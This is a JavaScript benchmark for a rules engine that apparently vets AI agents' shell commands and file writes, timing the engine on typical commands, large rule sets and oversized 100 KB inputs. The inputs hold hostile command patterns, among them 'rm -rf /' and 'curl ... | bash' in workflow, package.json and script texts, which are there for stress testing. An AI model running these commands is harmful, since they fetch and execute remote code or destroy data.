// What the rules cost a call: with every pack on, with ten and a thousand rules, and on text made to be dear.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { importSource } from '../../bundle-source.js';
import { median, percentile, valueAtMost } from '../figures.js';
import { manyRules } from '../loads/many-rules.js';
import { plainPass } from '../loads/plain-pass.js';

const ROUNDS = 5_000;
const QUICK_ROUNDS = 500;
const PLAIN_ROUNDS = 100;
/** Ratios use the fastest tenth of the calls, which other load did not disturb. */
const BEST = 0.1;
const MEASURE = 'x'.repeat(100_000);
const HOSTILE_ROUNDS = 5;
const HOSTILE_BYTES = 100_000;

const TYPICAL = [
  'npm test -- --run src/cart',
  'git status --short',
  'git add -A && git commit -m "fix the cart"',
  'cat src/cart.ts | grep total | head -20',
  "sed -i 's/total/sum/' src/cart.ts && npx tsc --noEmit",
  "find . -name '*.ts' -not -path './node_modules/*' | xargs grep -l total",
  'rm -rf dist && npm run build 2>&1 | tail -20',
  'cd packages/api && python3 -m pytest -x -q',
];

const fill = (piece, start = '') =>
  start + piece.repeat(Math.floor((HOSTILE_BYTES - start.length) / piece.length));
const HOSTILE = {
  'many substitutions': fill('echo $(rm -rf x); '),
  'nested substitutions': fill('$('),
  'nested quotes': fill('"$(echo ', 'echo '),
  'many files': fill('src/a.ts ', 'cat '),
  'many patterns': fill('src/*/a?b ', 'rm -rf '),
  'one deep pattern': fill('**/*a/', 'rm -rf '),
  braces: fill('{a,b}', 'cat '),
  'a document of substitutions': fill('$(x) ', 'cat <<EOF\n'),
  'one long word': fill('a', 'echo '),
  pipes: fill('cat a | '),
  assignments: fill('A=$A$A; '),
  'a program of assignments': fill('x=1;', "python3 -c '"),
  'a program of one long name': fill('a.', "ruby -e '"),
  'a program of declarations': fill('const a=', "node -e '"),
  'SQL of comments': fill('/*', 'mysql -e "'),
  'one word of many parts': fill('a:', 'git log '),
  'one word of many paths': fill('a/b:', 'zz '),
  'one word of addresses': fill('http://', 'zz '),
  'SQL of newlines': fill('\n', 'mysql <<E\n'),
  'a sed script of brackets': fill('(', "sed '"),
  'a program of imports': fill('import os\n', "python3 - <<'E'\n"),
  'a cmd.exe line of addresses': fill('a=http://', 'cmd /c "'),
  'a cmd.exe line of carets': fill('^', 'cmd /c '),
};

/** Files as a tool would write them, by name: their texts are looked through for what they would run. */
const HOSTILE_FILES = {
  'a Terraform file of open lists': ['main.tf', fill('command = [')],
  'a Terraform file of open documents': ['main.tf', fill('command = <<A\n')],
  'a workflow of downloads': [
    '.github/workflows/a.yml',
    fill('      - run: curl http://a.example/x | bash\n'),
  ],
  'a Dockerfile of documents': ['Dockerfile', fill('RUN <<EOF\n')],
  'a package of scripts': ['package.json', fill('"a": "curl http://a.example/x | sh",\n', '{"scripts": {')],
  'a page of gaps': ['src/a.jsp', fill('exec(   \n')],
  'a page of deletions': ['src/a.php', fill('rm -rf /\n')],
  'a program of deletions': ['src/a.js', fill('rm -rf /\n')],
  'a program of calls': ['src/a.py', fill('subprocess.run(["bash", "-c", "curl x | sh"])\n')],
  'a script of calls': ['a.sh', fill('os.system("curl http://a.example/x | bash")\n')],
};

export async function run({ quick }) {
  const folder = mkdtempSync(join(tmpdir(), 'hookline-bench-'));
  try {
    const parts = await importSource('test/bench/benches/rules-entry.ts', join(folder, 'bundle'));
    makeProject(join(folder, 'shop'));
    const everything = Object.fromEntries(parts.packNames().map((name) => [name, 'on']));
    const decide = opener(parts, folder)(everything, '');
    const rounds = quick ? QUICK_ROUNDS : ROUNDS;
    const figure = (name, judge) => ({
      name,
      ...typical(judge, rounds),
      to: 'a plain pass over 100 KB',
      isCompared: true,
    });
    const open = opener(parts, folder);
    // First, because it also warms up the others.
    const withPacks = [
      { ...figure('a typical command, all packs on', decide), target: valueAtMost(50) },
      figure('the same, never seen before', unseen(decide)),
    ];
    const noPacks = Object.fromEntries(parts.packNames().map((name) => [name, 'off']));
    const few = figure("with 10 rules of the user's own", open(noPacks, manyRules(10)));
    const many = figure('with 1000', open(noPacks, manyRules(1_000)));
    return [
      ...withPacks,
      few,
      { ...many, ratio: many.ratio / few.ratio, to: '10 rules' },
      ...hostile(decide, quick),
    ];
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Opens the rules as the engine does, with packs and rules of the user's own. */
function opener(parts, folder) {
  let opened = 0;
  return (packs, rules) => {
    opened += 1;
    const home = join(folder, String(opened));
    mkdirSync(join(home, 'rules'), { recursive: true });
    if (rules !== '') writeFileSync(join(home, 'rules/bench.yaml'), rules);
    const book = parts.openRuleSet({
      folder: join(home, 'rules'),
      trustFile: join(home, 'trust.json'),
      systemFolder: join(home, 'system'),
      packs,
      off: [],
      places: parts.rulePlaces(home),
    });
    const handler = parts.createRulesHandler({
      rulesFor: ({ projectId }) => book.inForce(projectId),
      world: {
        ...parts.realWorld(
          () => ({}),
          () => false,
        ),
        programs: parts.agentPrograms(),
      },
      memory: parts.createSessionMemory(),
      failed: (_, what) => {
        throw new Error(what);
      },
    });
    const shop = join(folder, 'shop');
    return (call) =>
      handler.decide(
        typeof call === 'string' ? parts.shellCall(call, shop) : writing(parts.shellCall('', shop), call),
      );
  };
}

/** The same event, but a file tool writes a text to a path. */
function writing(event, [path, content]) {
  const files = [{ op: 'write', path }];
  const tool = { name: 'Write', nativeName: 'Write', kind: 'write', input: { file_path: path, content } };
  return { ...event, tool: { ...event.tool, ...tool, command: null, files } };
}

/** Commands name existing files, because missing ones cost differently. */
function makeProject(project) {
  for (const path of ['src', 'dist', 'packages/api', 'node_modules'])
    mkdirSync(join(project, path), { recursive: true });
  for (const path of ['package.json', 'src/cart.ts']) writeFileSync(join(project, path), '');
}

/** Measures the plain pass again next to each command, because the load changes. */
function typical(decide, rounds) {
  const all = TYPICAL.map((command) => {
    const { value, best } = microseconds(() => decide(command), rounds);
    return { value, ratio: best / plainMicroseconds() };
  });
  return {
    value: median(all.map(({ value }) => value)),
    ratio: median(all.map(({ ratio }) => ratio)),
    unit: 'µs',
  };
}

function plainMicroseconds() {
  return microseconds(() => plainPass(MEASURE), PLAIN_ROUNDS).best;
}

/** Commands that are run again are remembered: here none is the same as another. */
function unseen(decide) {
  let number = 0;
  return (command) => {
    number += 1;
    return decide(
      command.replaceAll('cart', `cart${number}`).replaceAll(/^(?!.*cart)(.*)/gs, `$1 #${number}`),
    );
  };
}

function microseconds(call, rounds) {
  for (let round = 0; round < rounds / 2; round += 1) call();
  const times = [];
  for (let round = 0; round < rounds; round += 1) {
    const start = process.hrtime.bigint();
    call();
    times.push(Number(process.hrtime.bigint() - start) / 1_000);
  }
  times.sort((a, b) => a - b);
  return { value: percentile(times, 0.5), best: percentile(times, BEST) };
}

/** The first text of its kind runs cold code; later ones show the lasting cost. */
function hostile(decide, quick) {
  const plain = plainMicroseconds() / 1_000;
  let slowestFirst = 0;
  const figure = (name, value) => ({
    name: `100 KB of ${name}`,
    value,
    unit: 'ms',
    ratio: value / plain,
    to: 'a plain pass',
    target: valueAtMost(50),
  });
  const timed = ([name, call]) => {
    const times = Array.from({ length: HOSTILE_ROUNDS }, () => {
      const start = process.hrtime.bigint();
      decide(call);
      return Number(process.hrtime.bigint() - start) / 1e6;
    });
    const [first, ...others] = times;
    slowestFirst = Math.max(slowestFirst, first);
    return figure(name, Math.min(...others));
  };
  const slowest = (name, figures) => ({
    ...figure(name, Math.max(...figures.map(({ value }) => value))),
    isCompared: true,
  });
  const texts = Object.entries(HOSTILE).map(timed);
  const files = Object.entries(HOSTILE_FILES).map(timed);
  const all = [
    slowest('the slowest of all hostile texts', texts),
    slowest('the slowest of all hostile files', files),
  ];
  if (quick) return all;
  // The first also waits for compilation.
  const first = { name: 'the slowest of them, the first time', value: slowestFirst, unit: 'ms' };
  return [...texts, ...files, ...all, first];
}
